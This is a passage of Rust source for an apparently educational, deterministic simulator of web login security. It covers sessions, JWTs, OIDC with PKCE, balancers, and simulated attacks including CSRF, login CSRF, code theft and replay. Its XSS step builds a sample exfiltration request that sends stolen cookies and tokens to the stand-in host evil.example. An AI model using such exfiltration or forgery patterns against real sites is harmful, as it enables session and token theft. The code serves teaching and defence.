//! The mock world. Pure and deterministic: no leptos, web-sys, js-sys, gloo or
//! wasm-bindgen in here; time and randomness come in as arguments (a seed, and the
//! reader's moves of the virtual clock).
//!
//! [`World::apply`] is the one entry point: it takes an [`Action`] and returns the
//! [`Hop`]s it caused, in order. The page animates them, the tests assert on them.

pub mod attacker;
pub mod auth;
pub mod balancer;
pub mod bench;
pub mod browser;
pub mod bulk;
pub mod clock;
pub mod config;
pub mod cookie_jar;
pub mod exchange;
pub mod export;
pub mod hop;
pub mod http;
pub mod idp;
pub mod meters;
pub mod note;
pub mod refresh;
pub mod rng;
pub mod scenario;
pub mod server;
pub mod session;
pub mod store;
pub mod token;
pub mod users;

use self::attacker::{Attacker, Credential, Loot, Replay, Source};
use self::auth::oidc::{Client, TX_COOKIE};
use self::auth::{scheme, TokenPlace};
use self::balancer::{Balancer, STICKY_COOKIE};
use self::browser::{Browser, Initiator, PageView, Readable, Reason, QUOTE_KEY, TOKEN_KEY};
use self::clock::{Clock, Millis};
use self::config::{
    upstream, AuthMode, Choice, Config, CsrfDefence, LbPolicy, SameSitePolicy, StoreMode, TokenStore, Transport,
    Upstream, EVIL_HOST, IDP_HOST, MAX_SERVERS, MIN_SERVERS, SITE_HOST,
};
use self::exchange::Exchange;
use self::hop::{forwarded_extra, Actor, Hop, HopKind, Short, Text, Trace, Wire};
use self::http::{form_value, Request, Response};
use self::idp::{Idp, IDP_USERS};
use self::meters::{credential_bytes, Meters};
use self::note::{AttackerNote, BrowserNote, LogLine, MoveError, Note, RouteNote, SessionNote, SiteNote, TokenNote};
use self::rng::{hex, Rng};
use self::server::{cookie_value, Backend, Db, Server, SESSION_COOKIE};
use self::session::SessionTable;
use self::token::{KeyRing, SigningKey};
use self::users::UserDb;
use ::http::header::{HeaderName, AUTHORIZATION, COOKIE, LOCATION, SET_COOKIE};
use ::http::Method;
use std::collections::VecDeque;
use std::sync::Arc;

/// How many exchanges the network list keeps (older ones scroll away; meters keep counting).
pub const MAX_EXCHANGES: usize = 300;

/// Something the reader (or a scenario) does.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Action {
    /// `GET /`.
    Visit,
    /// `GET /flights?to=…` — ask for a fare.
    QuoteFlight {
        /// Destination (`jeju`, `busan`, `tokyo`).
        to: String,
    },
    /// `POST /flights/buy {count}` — buy the quoted flight.
    BuyFlight {
        /// Seats.
        count: u32,
    },
    /// `POST /login {username, password}`.
    Login {
        /// Name typed in the form.
        username: String,
        /// Password typed in the form.
        password: String,
    },
    /// `GET /me`.
    Me,
    /// `GET /admin`.
    Admin,
    /// `POST /logout`.
    Logout,
    /// `POST /token/refresh`.
    Refresh,
    /// `GET /me` with `Authorization: Bearer <token>` — the JWT inspector's send.
    SendToken {
        /// The token exactly as edited.
        token: String,
    },
    /// A form on `https://evil.example`, complete, posts `to=mallory&miles=10000` to
    /// `/miles/transfer` (the CSRF case): a top-level POST started on another site.
    CrossSite,
    /// A link on `https://evil.example` to `GET /me`: a top-level GET started on another
    /// site (Lax cookies go along, Strict ones do not).
    CrossSiteLink,
    /// `POST /miles/transfer` from the site's own page.
    TransferMiles {
        /// To whom.
        to: String,
        /// How many.
        miles: u32,
    },
    /// Reload the simulated page: what its script held in variables is gone (cookies and
    /// localStorage stay); the page starts again and asks `GET /me` (after a refresh,
    /// when it keeps its access token in memory).
    Reload,
    /// "Log in with auth.example": the whole authorization code flow with PKCE, signing
    /// in at auth.example with these credentials when it asks.
    LoginIdp {
        /// Name at auth.example.
        username: String,
        /// Password at auth.example.
        password: String,
    },
    /// The first half: the site sends the browser to auth.example (which signs it in at
    /// once if it has a session there, else shows its form).
    IdpAuthorize,
    /// The second half: the reader fills in auth.example's form, and the browser follows
    /// the redirects home.
    IdpSignIn {
        /// Name at auth.example.
        username: String,
        /// Password at auth.example.
        password: String,
    },
    /// A malicious extension in the reader's browser watches for the next redirect to
    /// `/callback`: it takes the code, and stops the redirect when `stop`.
    WatchCallback {
        /// Stop the redirect (else only copy the code).
        stop: bool,
    },
    /// The attacker feeds the newest stolen code into a login of their own at the site.
    InjectCode,
    /// Login CSRF: the attacker gets a code for their own account at auth.example, and
    /// evil.example sends the reader's browser to the site's `/callback` with it.
    ForgedCallback,
    /// Any request from the site's page (method, target, JSON body or empty, extra headers).
    Custom {
        /// Method.
        method: Method,
        /// Path and query.
        target: String,
        /// Body (JSON), may be empty.
        body: String,
        /// Extra header lines.
        headers: Vec<(String, String)>,
    },
    /// The attacker's script runs on the site's page and sends home what it can read.
    StealXss,
    /// The attacker reads the browser's last request off the wire.
    StealSniff,
    /// The attacker replays `GET /me` with the best stolen credential.
    Replay,
    /// The attacker sends a request from their own browser carrying `credential`
    /// (a stolen cookie in a `Cookie` header, or a bearer token), or nothing.
    AttackerSend {
        /// Method.
        method: Method,
        /// Path and query.
        target: String,
        /// What to present.
        credential: Option<Credential>,
    },
    /// Malware on the reader's computer copies a cookie out of the browser's profile on
    /// disk (HttpOnly only hides cookies from page scripts) and hands it to the attacker.
    StealCookie {
        /// The cookie's name.
        name: String,
    },
    /// A script injected into the site's page (XSS) sends `GET /me` as the reader: the
    /// browser attaches the cookies the script itself cannot read.
    XssRequest,
    /// A server deletes a session (forced logout, C6).
    RevokeSession {
        /// The session id.
        sid: String,
    },
    /// Servers deny an access token by its `jti` (turns the denylist on).
    RevokeToken {
        /// The token id.
        jti: String,
    },
    /// A server restarts: what it had in memory is gone.
    RestartServer(u8),
    /// New signing key: on one server (`Some(i)`) or all; `graceful` keeps the old key
    /// accepted (by `kid`) until its tokens expire.
    RotateKey {
        /// Which server, or all.
        server: Option<u8>,
        /// Keep accepting the previous key.
        graceful: bool,
    },
    /// Switch the auth mode.
    SetMode(AuthMode),
    /// Number of servers, 1–4 (a new server starts empty).
    SetServers(u8),
    /// Balancer policy.
    SetLb(LbPolicy),
    /// Where sessions live (what stays physically where the new mode looks survives).
    SetStore(StoreMode),
    /// https or http.
    SetTransport(Transport),
    /// Denylist checking on or off.
    SetDenylist(bool),
    /// The SameSite attribute of the login cookie (for cookies set from now on).
    SetSameSite(SameSitePolicy),
    /// The site's CSRF defence.
    SetCsrf(CsrfDefence),
    /// Where the page keeps the access token (token mode).
    SetTokenStore(TokenStore),
    /// Move the virtual clock forward.
    Advance(Millis),
    /// Simulate `count` more users logging in and making one request each.
    SimulateUsers(u32),
}

/// The whole simulated world.
#[derive(Clone, Debug)]
pub struct World {
    /// The knobs.
    pub config: Config,
    /// Virtual time.
    pub clock: Clock,
    rng: Rng,
    /// The reader's browser.
    pub browser: Browser,
    /// The attacker.
    pub attacker: Attacker,
    /// The balancer.
    pub balancer: Balancer,
    /// Servers A… (as many as `config.servers`).
    pub servers: Vec<Server>,
    /// The shared session store.
    pub shared: SessionTable,
    /// What all servers share: users, refresh tokens, denylist.
    pub db: Db,
    /// auth.example, from the first login there on.
    pub idp: Option<Box<Idp>>,
    /// The keys a newly added server is configured with.
    pub cluster_keys: KeyRing,
    /// The network list, oldest first (the last [`MAX_EXCHANGES`]).
    pub exchanges: VecDeque<Exchange>,
    /// Running totals.
    pub meters: Meters,
    /// Exchanges so far (ids are 1-based).
    pub exchange_count: u32,
    key_serial: u32,
    /// Message sizes of a bulk user, measured for a configuration.
    bulk_shapes: Option<(Config, bulk::Shapes)>,
}

impl World {
    /// A new world. `seed` fixes every random choice (session ids, salts, secrets).
    pub fn new(seed: u64, config: Config) -> Self {
        let mut rng = Rng::new(seed);
        let users = UserDb::seeded();
        let cluster_keys = KeyRing::new("k1", demo_secret(&mut rng));
        let servers = config.servers.clamp(MIN_SERVERS, MAX_SERVERS);
        let config = Config { servers, ..config };
        World {
            servers: (0..servers).map(|i| Server::new(i, cluster_keys.clone())).collect(),
            config,
            clock: Clock::default(),
            rng,
            browser: Browser::default(),
            attacker: Attacker::default(),
            balancer: Balancer::default(),
            shared: SessionTable::new(),
            db: Db::new(users, cluster_keys.current.secret.clone()),
            idp: None,
            cluster_keys,
            exchanges: VecDeque::new(),
            meters: Meters::default(),
            exchange_count: 0,
            key_serial: 1,
            bulk_shapes: None,
        }
    }

    /// Virtual now.
    pub fn now(&self) -> Millis {
        self.clock.now()
    }

    /// Bytes of state the servers keep for logged-in users: every session store (each
    /// server's memory or replica, the shared store) and the refresh-token table.
    pub fn store_bytes(&self) -> usize {
        self.servers.iter().map(|s| s.memory.bytes()).sum::<usize>() + self.shared.bytes() + self.db.refresh.bytes()
    }

    /// The newest exchange, if any.
    pub fn last_exchange(&self) -> Option<&Exchange> {
        self.exchanges.back()
    }

    /// Does what `action` says; returns the hops it caused, in order.
    pub fn apply(&mut self, action: Action) -> Vec<Hop> {
        let get = |t: &str| Request::new(Method::GET, SITE_HOST, t);
        let post = |t: &str, body: serde_json::Value| Request::new(Method::POST, SITE_HOST, t).json(body.to_string());
        match action {
            Action::Visit => self.browse(get("/"), Initiator::Site),
            Action::QuoteFlight { to } => {
                self.browse(get(&format!("/flights?to={}", url_component(&to))), Initiator::Site)
            }
            Action::BuyFlight { count } => {
                let mut body = serde_json::json!({ "count": count });
                if self.config.mode == AuthMode::Token {
                    // the page script remembers the quote itself and sends it along
                    if let Some(to) = self.browser.local_storage.get(QUOTE_KEY) {
                        body["to"] = to.clone().into();
                    }
                }
                self.browse(post("/flights/buy", body), Initiator::Site)
            }
            Action::Login { username, password } => self.browse(
                post("/login", serde_json::json!({ "username": username, "password": password })),
                Initiator::Site,
            ),
            Action::Me => self.browse(get("/me"), Initiator::Site),
            Action::Admin => self.browse(get("/admin"), Initiator::Site),
            Action::Logout => self.browse(post("/logout", serde_json::json!({})), Initiator::Site),
            Action::Refresh => self.browse(post("/token/refresh", serde_json::json!({})), Initiator::Site),
            Action::SendToken { token } => match get("/me").try_with(AUTHORIZATION, &format!("Bearer {token}")) {
                Ok(req) => self.browse(req, Initiator::Site),
                Err(e) => {
                    let why: Note = BrowserNote::HeaderRefused { name: Text::from(e.name) }.into();
                    self.browser.page = PageView::Error { status: 0, reason: Some(Reason::new(why.clone())) };
                    self.browser.notes = vec![why];
                    Vec::new()
                }
            },
            Action::CrossSite => {
                let form = Request::new(Method::POST, SITE_HOST, "/miles/transfer").form(FORGED_TRANSFER.into());
                self.navigate(form, Initiator::EvilPage)
            }
            Action::CrossSiteLink => self.navigate(get("/me"), Initiator::EvilLink),
            Action::TransferMiles { to, miles } => {
                self.browse(post("/miles/transfer", serde_json::json!({ "to": to, "miles": miles })), Initiator::Site)
            }
            Action::Reload => self.reload(),
            Action::LoginIdp { username, password } => {
                let mut hops = self.idp_authorize();
                if matches!(self.browser.page, PageView::IdpLogin { .. }) {
                    hops.extend(self.idp_sign_in(&username, &password));
                }
                hops
            }
            Action::IdpAuthorize => self.idp_authorize(),
            Action::IdpSignIn { username, password } => self.idp_sign_in(&username, &password),
            Action::WatchCallback { stop } => {
                self.attacker.watching = Some(stop);
                Vec::new()
            }
            Action::InjectCode => self.inject_code(),
            Action::ForgedCallback => self.forged_callback(),
            Action::Custom { method, target, body, headers } => {
                let mut req = Request::new(method, SITE_HOST, &target);
                if !body.is_empty() {
                    req = req.json(body);
                }
                let mut refused: Vec<Note> = Vec::new();
                for (name, value) in headers {
                    match HeaderName::from_bytes(name.as_bytes()) {
                        // A page script cannot set these (the Fetch standard's forbidden
                        // request-header names): the browser writes them itself, once.
                        Ok(n) if http::is_forbidden_request_header(&n) => refused
                            .push(BrowserNote::HeaderForbidden { name: http::canonical(n.as_str()).into() }.into()),
                        Ok(n) => match req.clone().try_with(n, &value) {
                            Ok(r) => req = r,
                            Err(e) => refused.push(BrowserNote::HeaderRefused { name: Text::from(e.name) }.into()),
                        },
                        Err(_) => refused.push(BrowserNote::HeaderNameInvalid { name: Text::from(name) }.into()),
                    }
                }
                let hops = self.browse(req, Initiator::Site);
                self.browser.notes.extend(refused);
                hops
            }
            Action::StealXss => self.steal_xss(),
            Action::StealSniff => self.steal_sniff(),
            Action::Replay => {
                let best = self.attacker.best().cloned();
                self.attacker_send(Method::GET, "/me", best)
            }
            Action::AttackerSend { method, target, credential } => self.attacker_send(method, &target, credential),
            Action::StealCookie { name } => {
                self.steal_cookie(&name);
                Vec::new()
            }
            Action::XssRequest => self.xss_request(),
            Action::RevokeSession { sid } => {
                let mut n = usize::from(self.shared.remove(&sid));
                for s in &mut self.servers {
                    if s.memory.remove(&sid) {
                        n += 1;
                        s.log(LogLine::Event(SessionNote::Revoked { sid: Short::of(&sid) }.into()));
                    }
                }
                if n == 0 {
                    self.browser.notes = vec![SessionNote::NotFound { sid: Short::of(&sid) }.into()];
                }
                Vec::new()
            }
            Action::RevokeToken { jti } => {
                let exp = self.clock.now_secs() + server::ACCESS_TTL / 1000;
                self.db.denylist.insert(jti, exp);
                self.config.denylist = true;
                Vec::new()
            }
            Action::RestartServer(i) => {
                if let Some(s) = self.servers.get_mut(i as usize) {
                    let lost = s.memory.len();
                    s.memory.clear();
                    s.log(LogLine::Event(SessionNote::Restarted { lost }.into()));
                }
                Vec::new()
            }
            Action::RotateKey { server, graceful } => {
                self.key_serial += 1;
                let key = SigningKey::new(format!("k{}", self.key_serial), demo_secret(&mut self.rng));
                let line = LogLine::Event(TokenNote::KeyRotated { kid: Text::copy(&key.kid), graceful }.into());
                match server {
                    Some(i) => {
                        if let Some(s) = self.servers.get_mut(i as usize) {
                            s.keys.rotate(key, graceful);
                            s.log(line);
                        }
                    }
                    None => {
                        self.cluster_keys.rotate(key.clone(), graceful);
                        for s in &mut self.servers {
                            s.keys.rotate(key.clone(), graceful);
                            s.log(line.clone());
                        }
                    }
                }
                Vec::new()
            }
            Action::SetMode(m) => self.configure(|c| c.mode = m),
            Action::SetServers(n) => {
                let n = n.clamp(MIN_SERVERS, MAX_SERVERS);
                self.servers.truncate(n as usize);
                while self.servers.len() < n as usize {
                    let i = self.servers.len() as u8;
                    self.servers.push(Server::new(i, self.cluster_keys.clone()));
                }
                self.config.servers = n;
                Vec::new()
            }
            Action::SetLb(p) => self.configure(|c| c.lb = p),
            Action::SetStore(mode) => {
                let from = self.config.store;
                // Sessions survive only where the new strategy still looks for them.
                let keep_memory = matches!(
                    (from, mode),
                    (StoreMode::Memory | StoreMode::Replicated, StoreMode::Memory | StoreMode::Replicated)
                );
                if !keep_memory {
                    for s in &mut self.servers {
                        s.memory.clear();
                    }
                }
                if mode != StoreMode::Shared {
                    self.shared.clear();
                }
                self.config.store = mode;
                Vec::new()
            }
            Action::SetTransport(t) => self.configure(|c| c.transport = t),
            Action::SetDenylist(on) => self.configure(|c| c.denylist = on),
            Action::SetSameSite(p) => self.configure(|c| c.samesite = p),
            Action::SetCsrf(d) => self.configure(|c| c.csrf = d),
            Action::SetTokenStore(t) => self.configure(|c| c.token_store = t),
            Action::Advance(by) => {
                self.clock.advance(by);
                self.expire();
                Vec::new()
            }
            Action::SimulateUsers(count) => {
                bulk::simulate(self, count);
                Vec::new()
            }
        }
    }

    /// A setting that only changes the configuration: no message travels.
    fn configure(&mut self, change: impl FnOnce(&mut Config)) -> Vec<Hop> {
        change(&mut self.config);
        Vec::new()
    }

    /// Drops what is dead at the current time: sessions in every store, cookies.
    fn expire(&mut self) {
        let now = self.now();
        for s in &mut self.servers {
            s.memory.purge_expired(now);
        }
        self.shared.purge_expired(now);
        self.db.refresh.purge_expired(now);
        self.db.oauth.retain(|_, p| now < p.started + auth::oidc::TX_TTL);
        if let Some(idp) = self.idp.as_deref_mut() {
            idp.sessions.purge_expired(now);
        }
        self.browser.jar.remove_expired(now);
    }

    /// A request from the reader's browser.
    fn browse(&mut self, req: Request, from: Initiator) -> Vec<Hop> {
        let now = self.now();
        let (req, note) = self.browser.prepare(req, &self.config, now, from);
        let ex = self.send(Actor::Browser, req, note);
        let now = self.now();
        self.browser.receive(&ex.request, &ex.response, &self.config, now, from);
        let hops = ex.hops.clone();
        self.push_exchange(ex);
        hops
    }

    /// A top-level navigation of the reader's browser: the request, and every redirect
    /// it follows (at most five). A redirect that passes through another site makes the
    /// rest of the way cross-site (RFC 6265bis §5.2). A watching extension may take the
    /// code off a redirect to `/callback`.
    fn navigate(&mut self, first: Request, from: Initiator) -> Vec<Hop> {
        let started_on = match from {
            Initiator::EvilPage | Initiator::EvilLink => EVIL_HOST.to_string(),
            Initiator::Navigation { cross_site: true } => String::new(),
            _ => first.host().to_string(),
        };
        let mut seen = vec![started_on];
        let mut req = first;
        let mut from = from;
        let mut hops = Vec::new();
        for _ in 0..6 {
            if let Some(stop) = self.attacker.watching {
                if req.path() == "/callback" {
                    if let Some(code) = req.query_param("code").map(str::to_string) {
                        self.attacker.watching = None;
                        self.attacker
                            .take(Loot { source: Source::Extension, credential: Credential::Code(code.clone()) });
                        self.attacker.last_attempt =
                            Some(AttackerNote::CodeTaken { code: Short::of(&code), stopped: stop }.into());
                        if stop {
                            let why: Note = BrowserNote::RedirectStopped.into();
                            self.browser.page = PageView::Error { status: 0, reason: Some(Reason::new(why.clone())) };
                            self.browser.notes = vec![why];
                            return hops;
                        }
                    }
                }
            }
            let host = req.host().to_string();
            hops.extend(self.browse(req, from));
            seen.push(host.clone());
            let Some(ex) = self.exchanges.back() else { break };
            if !ex.response.status.is_redirection() {
                break;
            }
            let Some(location) = ex.response.header_values(&LOCATION).next().map(str::to_string) else { break };
            let (next_host, target) = match location.split_once("://") {
                Some((_, rest)) => match rest.find('/') {
                    Some(i) => (rest[..i].to_string(), rest[i..].to_string()),
                    None => (rest.to_string(), "/".to_string()),
                },
                None => (host, location),
            };
            let cross_site = seen.iter().any(|s| *s != next_host);
            from = Initiator::Navigation { cross_site };
            req = Request::new(Method::GET, &next_host, &target);
        }
        hops
    }

    /// The page starts (after a reload, or after a login at auth.example lands): a page
    /// that keeps its access token in memory and holds none refreshes it first with the
    /// `rt` cookie; then it asks who is logged in.
    fn page_start(&mut self) -> Vec<Hop> {
        let mut hops = Vec::new();
        let bearer = scheme(&self.config).page_token();
        let holds = match bearer {
            Some(TokenPlace::Memory) => self.browser.memory.is_some(),
            Some(TokenPlace::LocalStorage) => self.browser.local_storage.contains_key(TOKEN_KEY),
            None => true,
        };
        if !holds {
            hops.extend(
                self.browse(Request::new(Method::POST, SITE_HOST, "/token/refresh").json("{}".into()), Initiator::Site),
            );
            if self.exchanges.back().is_some_and(|e| !e.response.status.is_success()) {
                return hops;
            }
        }
        hops.extend(self.browse(Request::new(Method::GET, SITE_HOST, "/me"), Initiator::Site));
        hops
    }

    fn reload(&mut self) -> Vec<Hop> {
        self.browser.reload();
        let hops = self.page_start();
        self.browser.notes.insert(0, BrowserNote::Reloaded.into());
        hops
    }

    /// auth.example, set up the first time the world needs it: the provider, and the
    /// site's registration there (one client secret, known to both).
    fn ensure_idp(&mut self) {
        if self.idp.is_none() {
            let secret = demo_secret(&mut self.rng);
            self.idp = Some(Box::new(Idp::new(secret.clone())));
            self.db.oidc = Some(Client { secret });
        }
    }

    /// The site sends the browser to auth.example (a link on the site's page).
    fn idp_authorize(&mut self) -> Vec<Hop> {
        self.ensure_idp();
        let start = Request::new(Method::GET, SITE_HOST, "/login/idp");
        self.navigate(start, Initiator::Navigation { cross_site: false })
    }

    /// The reader signs in on auth.example's form; the browser follows the redirects home,
    /// and the page starts.
    fn idp_sign_in(&mut self, username: &str, password: &str) -> Vec<Hop> {
        let PageView::IdpLogin { ret } = &self.browser.page else {
            self.browser.notes = vec![MoveError::NoIdpForm.into()];
            return Vec::new();
        };
        let body = format!(
            "username={}&password={}&return={}",
            url_component(username),
            url_component(password),
            url_component(ret)
        );
        let form = Request::new(Method::POST, IDP_HOST, "/login").form(body);
        let mut hops = self.navigate(form, Initiator::Navigation { cross_site: false });
        let home =
            self.exchanges.back().is_some_and(|e| e.request.host() == SITE_HOST && e.response.status.is_success());
        if home {
            hops.extend(self.page_start());
        }
        hops
    }

    /// The attacker starts a login of their own at the site: the `oauth_tx` cookie and
    /// the authorization request it sends them to.
    fn attacker_login_start(&mut self, hops: &mut Vec<Hop>) -> Option<(String, String)> {
        let start = Request::new(Method::GET, SITE_HOST, "/login/idp");
        let ex = self.send(Actor::Attacker, start, AttackerNote::OwnLogin.into());
        hops.extend(ex.hops.iter().cloned());
        let tx = ex.response.header_values(&SET_COOKIE).find_map(|c| {
            let value = c.strip_prefix(TX_COOKIE)?.strip_prefix('=')?;
            Some(value.split(';').next().unwrap_or("").to_string())
        });
        let query =
            ex.response.header_values(&LOCATION).next().and_then(|l| l.split_once('?')).map(|(_, q)| q.to_string());
        self.push_exchange(ex);
        Some((tx?, query?))
    }

    /// The attacker's own login at the site, fed a stolen code: the site redeems it with
    /// the verifier of the attacker's login.
    fn inject_code(&mut self) -> Vec<Hop> {
        let Some(code) = self.attacker.code().map(str::to_string) else {
            self.attacker.last_attempt = Some(MoveError::NoStolenCode.into());
            return Vec::new();
        };
        self.ensure_idp();
        let mut hops = Vec::new();
        let Some((tx, query)) = self.attacker_login_start(&mut hops) else { return hops };
        let state = form_value(&query, "state").unwrap_or_default();
        let target = format!("/callback?code={}&state={}", url_component(&code), url_component(&state));
        let req = Request::new(Method::GET, SITE_HOST, &target).with(COOKIE, &format!("{TX_COOKIE}={tx}"));
        let used = Some(Credential::Code(code));
        let ex = self.send(Actor::Attacker, req, AttackerNote::Replaying(used.clone()).into());
        self.attacker.last_replay =
            Some(Replay { status: ex.response.status.as_u16(), outcome: ex.response.reason.clone(), used });
        hops.extend(ex.hops.iter().cloned());
        self.push_exchange(ex);
        hops
    }

    /// Login CSRF: the attacker gets a code for their own account, then evil.example
    /// sends the reader's browser to the site's callback with it.
    fn forged_callback(&mut self) -> Vec<Hop> {
        self.ensure_idp();
        let mut hops = Vec::new();
        let Some((_tx, query)) = self.attacker_login_start(&mut hops) else { return hops };
        let (user, password) = IDP_USERS[1];
        let body = format!("username={user}&password={password}&return={}", url_component(&query));
        let login = Request::new(Method::POST, IDP_HOST, "/login").form(body);
        let ex = self.send(Actor::Attacker, login, AttackerNote::OwnCode { user: Text::Static(user) }.into());
        let back =
            ex.response.header_values(&LOCATION).next().and_then(|l| l.split_once('?')).map(|(_, q)| q.to_string());
        hops.extend(ex.hops.iter().cloned());
        self.push_exchange(ex);
        self.attacker.last_attempt = Some(AttackerNote::OwnCode { user: Text::Static(user) }.into());
        let Some(back) = back else { return hops };
        let forged = Request::new(Method::GET, SITE_HOST, &format!("/callback?{back}"));
        hops.extend(self.navigate(forged, Initiator::EvilLink));
        hops
    }

    /// Sends a request from `actor` to the host it names (`config::HOSTS`): the site
    /// through its balancer, or auth.example.
    fn send(&mut self, actor: Actor, req: Request, note: Note) -> Exchange {
        match upstream(req.host()) {
            Some(Upstream::Idp) => self.send_idp(actor, req, note),
            // The page builds requests to the world's hosts only; anything else goes the
            // site's way, whose servers answer for their own host.
            Some(Upstream::Site) | None => self.send_site(actor, req, note),
        }
    }

    /// A request from `actor` straight to auth.example and back.
    fn send_idp(&mut self, actor: Actor, req: Request, note: Note) -> Exchange {
        self.ensure_idp();
        let (mut trace, label) = self.open_exchange(&req);
        let (id, started) = (trace.exchange, trace.t);
        let bytes = req.wire_size();
        let req = Arc::new(req);
        trace.push_wire(actor, Actor::Idp, HopKind::Request, label, Wire::Request(Arc::clone(&req)), bytes, Some(note));
        let (res, verdict) = match self.idp.as_deref_mut() {
            Some(idp) => idp.handle(&req, &mut idp::Ctx { rng: &mut self.rng, now: trace.t }),
            None => {
                let note: Note = SiteNote::NoSuchPage.into();
                (Response::refuse(::http::StatusCode::BAD_GATEWAY, note.clone()), note)
            }
        };
        let res = Arc::new(res);
        let (label, res_bytes) = (status_label(res.status), res.wire_size());
        trace.push_wire(
            Actor::Idp,
            actor,
            HopKind::Response,
            label,
            Wire::Response(Arc::clone(&res)),
            res_bytes,
            Some(verdict),
        );
        self.count_exchange(&req, &trace);
        Exchange {
            id,
            actor,
            request: req,
            response: res,
            handler: Actor::Idp,
            hops: trace.hops,
            started,
            finished: self.now(),
        }
    }

    /// Sends a request from `actor` through the balancer to a server and back.
    fn send_site(&mut self, actor: Actor, req: Request, note: Note) -> Exchange {
        let (mut trace, label) = self.open_exchange(&req);
        let (id, started) = (trace.exchange, trace.t);
        // The two request hops carry the request itself, rendered only when asked; it
        // goes in once the server is done with it (below).
        let sent_bytes = req.wire_size();
        let first = trace.push_wire(
            actor,
            Actor::Balancer,
            HopKind::Request,
            label.clone(),
            Wire::Text(Text::default()),
            sent_bytes,
            Some(note),
        );

        // Only the sticky policy reads the balancer's cookie.
        let sticky = match self.config.lb {
            LbPolicy::Sticky => cookie_value(&req, STICKY_COOKIE),
            LbPolicy::RoundRobin | LbPolicy::Random => None,
        };
        let route = self.balancer.pick(self.config.lb, self.servers.len() as u8, sticky, &mut self.rng);
        // The balancer adds two headers on the way in, last. No handler reads them: a
        // request that does not carry them yet is handed over as it is, its header block
        // counted with them; one that does gets a copy with them appended.
        let (xff, xfp) = (HeaderName::from_static("x-forwarded-for"), HeaderName::from_static("x-forwarded-proto"));
        let (ip, proto) = (client_ip(actor), self.config.transport.id());
        let extra = forwarded_extra(ip, proto);
        let forwarded = req
            .headers
            .keys()
            .any(|k| *k == xff || *k == xfp)
            .then(|| req.clone().with_static(xff, ip).with_static(xfp, proto));
        let second = trace.push_wire(
            Actor::Balancer,
            Actor::Server(route.server),
            HopKind::Request,
            label,
            Wire::Text(Text::default()),
            sent_bytes + extra,
            Some(route.why.into()),
        );
        let header_block = req.header_block_size() + extra;
        let server_sees = match &forwarded {
            Some(f) => {
                debug_assert_eq!(f.wire_size(), sent_bytes + extra);
                trace.set_wire(second, Wire::Text(f.raw().into()));
                f
            }
            None => &req,
        };

        let mut backend = Backend {
            servers: &mut self.servers,
            shared: &mut self.shared,
            db: &mut self.db,
            rng: &mut self.rng,
            config: self.config,
            meters: &mut self.meters,
            now: trace.t,
            idp: self.idp.as_deref_mut(),
        };
        let (res, verdict) = backend.handle_sized(route.server, server_sees, header_block, &mut trace);
        let status_label = status_label(res.status);
        let res_bytes = res.wire_size();
        let res = Arc::new(res);
        trace.push_wire(
            Actor::Server(route.server),
            Actor::Balancer,
            HopKind::Response,
            status_label.clone(),
            Wire::Response(Arc::clone(&res)),
            res_bytes,
            Some(verdict),
        );
        let (res, back_note) = match &route.set_sticky {
            Some(cookie) => {
                let pinned = (*res).clone().with(::http::header::SET_COOKIE, cookie);
                (Arc::new(pinned), Some(RouteNote::Pinned { server: route.server }.into()))
            }
            // The balancer passes the answer on unchanged: the same text.
            None => (res, None),
        };
        let back_bytes = res.wire_size();
        trace.push_wire(
            Actor::Balancer,
            actor,
            HopKind::Response,
            status_label,
            Wire::Response(Arc::clone(&res)),
            back_bytes,
            back_note,
        );
        let rendered = forwarded.is_some();
        let req = Arc::new(req);
        trace.set_wire(first, Wire::Request(Arc::clone(&req)));
        if !rendered {
            trace.set_wire(second, Wire::Forwarded { req: Arc::clone(&req), ip, proto });
        }

        self.balancer.record(id, route.server);
        self.count_exchange(&req, &trace);
        Exchange {
            id,
            actor,
            request: req,
            response: res,
            handler: Actor::Server(route.server),
            hops: trace.hops,
            started,
            finished: self.now(),
        }
    }

    /// Opens the next exchange: its trace, starting now, and its request's label.
    fn open_exchange(&mut self, req: &Request) -> (Trace, Text) {
        self.exchange_count += 1;
        let trace = Trace::new(self.exchange_count, self.now());
        (trace, Text::concat(&[req.method.as_str(), " ", &req.target]))
    }

    /// Counts a finished exchange (its request, credential bytes and hops) in the meters
    /// and moves the clock to its last hop.
    fn count_exchange(&mut self, req: &Request, trace: &Trace) {
        self.meters.requests += 1;
        self.meters.credential_bytes += credential_bytes(req) as u64;
        self.meters.add_hops(&trace.hops);
        self.clock = Clock::at(trace.t);
    }

    fn push_exchange(&mut self, ex: Exchange) {
        self.exchanges.push_back(ex);
        while self.exchanges.len() > MAX_EXCHANGES {
            self.exchanges.pop_front();
        }
    }

    /// A one-hop exchange-less message (XSS exfiltration, sniffing), counted in the meters.
    fn leak(&mut self, from: Actor, label: &'static str, raw: String, note: Note) -> Vec<Hop> {
        let mut trace = Trace::new(0, self.now());
        trace.push(from, Actor::Attacker, HopKind::Leak, Text::Static(label), raw, Some(note));
        self.meters.add_hops(&trace.hops);
        trace.hops
    }

    fn steal_xss(&mut self) -> Vec<Hop> {
        let now = self.now();
        let readable = self.browser.script_readable(&self.config, now);
        let mut got = Vec::new();
        let mut payload = Vec::new();
        for r in readable {
            let credential = match r {
                Readable::Cookie { name, value } => {
                    payload.push(format!("cookie%20{}={}", url_component(&name), url_component(&value)));
                    Credential::Cookie { name, value }
                }
                Readable::Storage { key, value } => {
                    payload.push(format!("localStorage%20{}={}", url_component(&key), url_component(&value)));
                    if key == TOKEN_KEY {
                        Credential::Bearer(value)
                    } else {
                        Credential::Stored { key, value }
                    }
                }
            };
            got.push(credential.clone());
            self.attacker.take(Loot { source: Source::Xss, credential });
        }
        let hidden: Vec<Text> =
            self.browser.jar.iter().filter(|c| c.http_only).map(|c| Text::cookie_name(&c.name)).collect();
        let summary: Note = AttackerNote::ScriptRead { got, hidden }.into();
        self.attacker.last_attempt = Some(summary.clone());
        let raw = format!("GET /collect?{} HTTP/1.1\r\nHost: {EVIL_HOST}\r\n\r\n", payload.join("&"));
        self.leak(Actor::Browser, "XSS → evil.example", raw, summary)
    }

    fn steal_sniff(&mut self) -> Vec<Hop> {
        if self.config.transport == Transport::Https {
            let msg: Note = AttackerNote::SniffTls.into();
            self.attacker.last_attempt = Some(msg.clone());
            return self.leak(Actor::Browser, "TLS", String::new(), msg);
        }
        let Some(ex) = self.exchanges.iter().rev().find(|e| e.actor == Actor::Browser) else {
            self.attacker.last_attempt = Some(AttackerNote::NoTraffic.into());
            return Vec::new();
        };
        let req = Arc::clone(&ex.request);
        let res = Arc::clone(&ex.response);
        let mut got = Vec::new();
